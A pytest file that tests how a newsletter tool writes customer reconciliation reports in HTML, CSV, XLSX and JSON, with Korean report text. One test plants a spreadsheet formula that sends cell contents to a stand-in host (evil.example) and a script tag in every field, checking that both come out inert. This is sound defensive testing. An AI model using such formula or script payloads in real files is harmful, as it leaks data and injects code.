"""Tests of :mod:`generator.commands.steps.reconcile_reports`: what `reconcile` leaves for people and for programs."""

from __future__ import annotations

import csv
import io
import json
import time
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from lxml import html

from generator.commands.clean import clean
from generator.commands.context import begin
from generator.commands.steps.reconcile_reports import reconciliation_json, write_reconciliation
from generator.findings import Findings
from generator.plan.customers.customer_history import Change, Hindsight, Past, Trend
from generator.plan.customers.reconciliation import VERDICTS, Outcome, Reconciliation
from tests.outcomes import outcome
from tests.people import ISSUE, at, newsletter_in

NAMES = {f"reconciliation.{kind}" for kind in ("html", "csv", "xlsx", "json")}
FORMULA = '=HYPERLINK("http://evil.example?"&A1)'
SCRIPT = "<script>alert(1)</script>\nnext"
CHANGES = tuple(Change(outcome(now, name=name, company="", owner=""), before) for name, before, now in (
    ("가", "reached", "bounced"), ("나", "", "missing"), ("다", "missing", "opted-out"),
    ("라", "typo", "reached-elsewhere"), ("마", "", "reached"), ("바", "reached", "reached-elsewhere")))
TREND = (Trend(date(2026, 10, 5), "2026-10", 1, 3), Trend(date(2026, 11, 5), ISSUE, 2, 3))


def reports(root: Path, *outcomes: Outcome, changes: tuple[Change, ...] | None = CHANGES,
            files: dict[str, str | bytes] | None = None) -> tuple[Path, Findings]:
    """The folder of reports after one run, and what was found."""
    newsletter_in(root, files or {})
    run = begin(at(root))
    write_reconciliation(run, Reconciliation(ISSUE, 100, outcomes), Hindsight(changes, TREND))
    return root / "output/reports", run.findings


def page(folder: Path) -> str:
    """The text of the page, spaces evened out."""
    return " ".join(str(html.fromstring((folder / "reconciliation.html").read_text("utf-8")).xpath("string()")).split())


def test_all_reports_are_written_and_cleaned(tmp_path: Path) -> None:
    """Whole, with nothing half-written beside them; `clean` removes them."""
    folder, findings = reports(tmp_path, *map(outcome, VERDICTS))
    assert {path.name for path in folder.iterdir()} == NAMES
    assert list(findings) == []
    assert clean(tmp_path, only_cache=False)["output/reports"] == 4
    assert list(folder.iterdir()) == []


def test_the_page_has_owners_changes_and_trend(tmp_path: Path) -> None:
    """Who gets less, who gets more, who stays as they were; issues by title; owners with nobody left out last."""
    folder, _ = reports(tmp_path, outcome("reached", owner="가영"), outcome("missing", owner="나래"))
    text = page(folder)
    assert "새로 빠지는 분 2 가 받음 → 반송 나 새 주요 고객 → 명단에 없음" in text
    assert "새로 받는 분 2 라 주소 오타 → 다른 주소로 받음 마 새 주요 고객 → 받음" in text
    assert "‘첫 소식’" in text
    assert "첫 소식2026-11-05" in text
    assert text.index("나래 1명 중") < text.index("가영 1명이 모두")
    assert "처음 점검" in page(reports(tmp_path, outcome("missing"), changes=None)[0])


def test_the_table_opens_in_korean_excel(tmp_path: Path) -> None:
    """UTF-8 with a byte order mark, a row a customer, in words, the worst first."""
    folder, _ = reports(tmp_path, *map(outcome, VERDICTS))
    data = (folder / "reconciliation.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbftier,owner,id,name,")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert [row["verdict"] for row in rows][::9] == ["opted-out", "reached"]
    assert (rows[0]["name"], rows[0]["action"]) == ("김민수", "메일을 보내지 마세요. 전화로 연락하세요.")


def test_the_workbook_has_what_puts_it_right(tmp_path: Path) -> None:
    """All, and rows to add, to correct, to call."""
    folder, _ = reports(tmp_path, *map(outcome, VERDICTS), outcome("missing"))
    book = openpyxl.load_workbook(folder / "reconciliation.xlsx")
    assert {sheet.title: sheet.max_row - 1 for sheet in book} == {
        "all": 11, "add": 2, "correct": 1, "correct_key_list": 0, "call": 1, "past": 0}
    assert [cell.value for cell in book["add"][1]] == [
        "email", "name", "company", "phone", "consent_date", "consent_source", "note"]
    assert [book["add"].cell(2, column).value for column in (5, 6, 7)] == [None, None, "수신동의를 받아야 함"]


def test_programs_get_the_contract(tmp_path: Path) -> None:
    """The same object as `--json`."""
    told = [outcome("missing"), outcome("reached", subscriber="a@x.example", basis=("address",))]
    folder, findings = reports(tmp_path, *told)
    found = json.loads((folder / "reconciliation.json").read_text("utf-8"))
    now = reconciliation_json(Reconciliation(ISSUE, 100, tuple(told)), Past(), findings)
    assert found == json.loads(json.dumps(now))
    assert [customer["subscriber"] for customer in found["customers"]] == [None, "a@x.example"]
    assert (found["issue"], found["subscribers"], found["verdicts"]["missing"]) == (ISSUE, 100, 1)


@pytest.mark.parametrize("verdict", VERDICTS)
@pytest.mark.parametrize("value", [FORMULA, SCRIPT])
def test_nothing_that_a_list_contains_runs(tmp_path: Path, verdict: str, value: str) -> None:
    """No formula in the CSV or the XLSX, no markup in the page."""
    folder, _ = reports(tmp_path, outcome(verdict, id=value, name=value, company=value, email=value, phone=value,
                                          tier=value, owner=value, subscriber=value, basis=("name",)))
    rows = list(csv.reader(io.StringIO((folder / "reconciliation.csv").read_bytes().decode("utf-8-sig"))))
    assert [len(row) for row in rows] == [13, 13]
    assert not [cell for cell in rows[1] if cell.startswith("=") or "\n" in cell]
    book = openpyxl.load_workbook(folder / "reconciliation.xlsx")
    assert {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row if cell.value} == {"s"}
    tree = html.fromstring((folder / "reconciliation.html").read_text("utf-8"))
    assert tree.xpath("//script | //a[not(starts-with(@href, '#'))]") == []


def test_nobody(tmp_path: Path) -> None:
    """Without key customers every report is there, and says so."""
    folder, _ = reports(tmp_path)
    assert "아직 주요 고객 명단이 없습니다." in page(folder)
    assert (folder / "reconciliation.csv").read_bytes().count(b"\r\n") == 1
    assert [sheet.max_row for sheet in openpyxl.load_workbook(folder / "reconciliation.xlsx")] == [1] * 6


def test_a_template_that_fails_is_reported(tmp_path: Path) -> None:
    """The tables are written all the same."""
    folder, findings = reports(tmp_path, outcome("missing"), files={
        "templates/reports/reconciliation.html": "{{ nothing }}"})
    assert {path.name for path in folder.iterdir()} == NAMES - {"reconciliation.html"}
    assert [finding.code for finding in findings] == ["template"]


def test_many_customers_are_quick(tmp_path: Path) -> None:
    """Three thousand key customers in all four reports."""
    many = [outcome(VERDICTS[number % 10], id=str(number), owner=str(number % 30)) for number in range(3_000)]
    start = time.process_time()
    reports(tmp_path, *many)
    assert time.process_time() - start < 6
